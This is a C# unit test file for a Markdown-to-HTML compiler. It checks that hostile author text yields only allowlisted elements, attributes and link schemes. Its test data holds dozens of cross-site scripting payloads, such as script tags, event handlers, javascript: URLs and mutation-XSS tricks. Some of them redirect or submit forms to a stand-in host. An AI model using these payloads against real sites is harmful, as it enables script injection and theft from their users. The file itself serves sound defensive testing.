using System.Text;
using AngleSharp.Html.Parser;
using CsCheck;
using Playbooks.Model;

namespace Playbooks.Tests.Compiling;

/// <summary>Whatever an author writes, the page holds only elements and attributes of ours, and links only where they may lead.</summary>
public sealed class HostileTextTests
{
    private static readonly HashSet<string> Elements =
    [
        "a", "aside", "blockquote", "br", "code", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "img", "li", "ol", "p", "pre", "s", "span", "strong", "svg",
        "table", "tbody", "td", "th", "thead", "tr", "ul", "use",
    ];

    private static readonly HashSet<string> Attributes =
    [
        "alt", "aria-hidden", "aria-label", "aria-labelledby", "class", "decoding", "height", "href", "id", "loading", "role", "scope", "src", "start", "tabindex", "title", "width",
    ];

    private static readonly string[] Schemes = ["http://", "https://", "mailto:", "tel:", "#", "slot:"];

    private static readonly string[] Pieces =
    [
        "{{", "}}", "{{ a.b }}", "{{ Term.x.many }}", "{#", "{#id}", "}", "[", "]", "(", ")", "[@", "[@a]", "![", "](", "](xref:a/b)", "](https://x.org)", "](javascript:x)",
        "](x.png)", "](../a.md#b)", "<", ">", "<!--", "-->", "<b onclick=x>", "<script>", "<https://a.b>", "&amp;", "&lt;", "&#60;", "&#x202E;", "&colon;", "*", "**", "_", "__", "~~", "`",
        "``", "```", "~~~", "\n", "\n", "\n\n", "\n\n", "\r\n", " ", "    ", "\t", "# ", "## ", "### ", "#### ", "- ", "* ", "1. ", "- [ ] ", "> ", "|", "|-|-|\n", "| a | b |\n",
        "---", "===", ":::", ":::\n", "::: tip\n", "::: tip \"T\" <b>\n", "::: when \"a\"\n", "::: else\n", ":::: when \"b\"\n", "::::\n",
        "::: tip class=x \"T\n", "::: ask class=\"x\" reviewed=<b>\n", "::: law \"x\" jurisdiction=us reviewed=2026-01-01 sources=a,b\n", "::: replace x base=1\n", "::: hide x reason=\"r\"\n", "\\", "\"", "'", "a", "word", "é", "日本", "\u0001",
        "\u202E", "\0", "😀", "\uD800", "[a]: b\n", "[a]: javascript:x 'y'\n", "[a]", "\u00A0",
    ];

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<ScRiPt src=//evil.example></ScRiPt>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("text <svg/onload=alert(1)> text")]
    [InlineData("<iframe src=\"javascript:alert(1)\">")]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>")]
    [InlineData("<div style=\"background:url(javascript:1)\">")]
    [InlineData("<style>*{display:none}</style>")]
    [InlineData("<meta http-equiv=refresh content=0;url=//evil.example>")]
    [InlineData("<base href=//evil.example/>")]
    [InlineData("<form action=//evil.example><input name=a></form>")]
    [InlineData("<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>")]
    [InlineData("<!--><img src=x onerror=alert(1)>-->")]
    [InlineData("<!-- --!><img src=x onerror=alert(1)> -->")]
    [InlineData("<!---><script>alert(1)</script>")]
    [InlineData("a <!--><script>alert(1)</script>--> b")]
    [InlineData("<![CDATA[<script>alert(1)</script>]]>")]
    [InlineData("<?xml-stylesheet href=\"javascript:alert(1)\"?>")]
    [InlineData("`<script>alert(1)</script>`")]
    [InlineData("``` \n<script>alert(1)</script>\n```")]
    [InlineData("```\"><script>alert(1)</script>\nx\n```")]
    [InlineData("```js\" onmouseover=\"alert(1)\nx\n```")]
    [InlineData("&lt;script&gt;alert(1)&lt;/script&gt;")]
    [InlineData("&#60;script&#62;alert(1)&#60;/script&#62;")]
    [InlineData("&amp;lt;script&amp;gt;")]
    [InlineData("## <script>alert(1)</script> {#a}")]
    [InlineData("## a {#a\" onclick=\"alert(1)}")]
    [InlineData("## a {#x onclick=alert(1)}")]
    [InlineData("## a {.x onclick=alert(1) style=a}")]
    [InlineData("a {onclick=alert(1)}")]
    [InlineData("[a](xref:b){onclick=alert(1)}")]
    [InlineData("**a**{onclick=alert(1)}")]
    [InlineData("[a](https://x.example/\" onclick=\"alert(1))")]
    [InlineData("[a](<https://x.example/\" onclick=\"alert(1)>)")]
    [InlineData("[a](https://x.example '\" onclick=\"alert(1)')")]
    [InlineData("[a](https://x.example \"&quot; onclick=&quot;alert(1)\")")]
    [InlineData("[a\" onclick=\"b](xref:c/d)")]
    [InlineData("![\" onerror=\"alert(1)](x.png)")]
    [InlineData("![a](x.png \"\\\" onerror=\\\"alert(1)\")")]
    [InlineData("![a](x.png\"onerror=\"alert(1))")]
    [InlineData("![![a](javascript:b)](c.png)")]
    [InlineData("[![a](x.png)](javascript:b)")]
    [InlineData("[a](javascript://x.example/%0Aalert(1))")]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("<https://x.example/\"onclick=alert(1)>")]
    [InlineData("<https://x.example/'onclick='alert(1)>")]
    [InlineData("<a@b.c\"onclick=\"x>")]
    [InlineData("[a]: javascript:alert(1)\n\n[a] [b][a] ![c][a]")]
    [InlineData("[<img src=x onerror=1>]: x.md\n\n[<img src=x onerror=1>]")]
    [InlineData("::: tip \"<script>alert(1)</script>\"\na\n:::")]
    [InlineData("::: tip \"\\\" onclick=\\\"x\"\na\n:::")]
    [InlineData("::: tip class=\"x\" onclick=\"y\"\na\n:::")]
    [InlineData("::: tip{onclick=x}\na\n:::")]
    [InlineData("::: law \"x\" jurisdiction=\"<script>\" reviewed=2026-01-01 sources=a\na\n:::")]
    [InlineData("::: law \"x\" jurisdiction=us reviewed=\"2026-01-01<b>\" sources=\"<b>\"\na\n:::")]
    [InlineData("::: <script>\na\n:::")]
    [InlineData("::: when \"<script>alert(1)</script>\"\na\n:::")]
    [InlineData("{{ <script>.x }}")]
    [InlineData("{{ a.b\" onclick=\"x }}")]
    [InlineData("{{ a.b }}<script>{{ c.d }}")]
    [InlineData("[@<script>]")]
    [InlineData("[@a\" onclick=\"x]")]
    [InlineData("| <script> | `\"` |\n|---|:-:|\n| <img src=x onerror=1> | \" |")]
    [InlineData("| a\" onclick=\"x |\n|---|\n| b |")]
    [InlineData("1\" onclick=x. a")]
    [InlineData("- [ ]<script>\n- [x]\" onclick=x")]
    [InlineData("</p></div></aside></main><h1>x</h1>")]
    [InlineData("a\0<script\0>alert(1)</script>")]
    [InlineData("¼script¾alert(1)¼/script¾")]
    [InlineData("＜script＞alert(1)＜/script＞")]
    [InlineData("\ud83d<script>alert(1)</script>\ude00")]
    [InlineData("![](https://www.youtube.com/watch?v=x) ![video](x.mp4)")]
    [InlineData("<video src=x onerror=alert(1)>")]
    [InlineData("\\<script\\>alert(1)\\</script\\>")]
    public void Attack_leaves_nothing_active_on_the_page(string text) => AssertHarmless(text);

    [Fact]
    public void Nothing_made_of_hostile_pieces_is_active_on_the_page() => Gen.Int[0, Pieces.Length - 1].Select(at => Pieces[at]).Array[1, 60]
        .Sample(pieces => AssertHarmless(string.Concat(pieces)), iter: 1_000);

    private static void AssertHarmless(string text)
    {
        foreach (var compiled in new[] { CompiledText.Of(text), CompiledText.Of(text, allowsOverrides: true) })
        {
            foreach (var section in compiled.Everything)
            {
                AssertHarmless(section.Heading, text);
                AssertHarmless(section.Body, text);
            }
        }
    }

    private static void AssertHarmless(Fragment fragment, string text)
    {
        var html = Filled(fragment);
        var body = new HtmlParser().ParseDocument($"<!DOCTYPE html><html><head><title>x</title></head><body>{html}</body></html>").Body!;
        var elements = body.QuerySelectorAll("*");
        foreach (var element in elements)
        {
            Assert.True(Elements.Contains(element.LocalName), $"<{element.LocalName}> in {text}");
            foreach (var attribute in element.Attributes)
            {
                Assert.True(Attributes.Contains(attribute.Name), $"{attribute.Name} in {text}");
            }

            if (element.GetAttribute("href") is { } href)
            {
                Assert.True(Schemes.Any(scheme => href.StartsWith(scheme, StringComparison.OrdinalIgnoreCase)), $"{href} in {text}");
            }
        }

        // A browser reads as many elements as were written: nothing was closed early, moved or swallowed.
        Assert.Equal(html.Count(each => each == '<') - html.Split("</").Length + 1, elements.Length);
    }

    private static string Filled(Fragment fragment)
    {
        var html = new StringBuilder();
        var at = 0;
        foreach (var slot in fragment.Slots)
        {
            Assert.InRange(slot.Position, at, fragment.Utf8.Length);
            html.Append(Encoding.UTF8.GetString(fragment.Utf8.Span[at..slot.Position]));
            at = slot.Position;
            html.Append(slot switch
            {
                FragmentSlot.LinkStart => "<a href=\"slot:\">",
                FragmentSlot.LinkEnd => "</a>",
                FragmentSlot.Citation => "<a href=\"slot:\">1</a>",
                FragmentSlot.Range => "",
                _ => "value",
            });
        }

        return html.Append(Encoding.UTF8.GetString(fragment.Utf8.Span[at..])).ToString();
    }
}
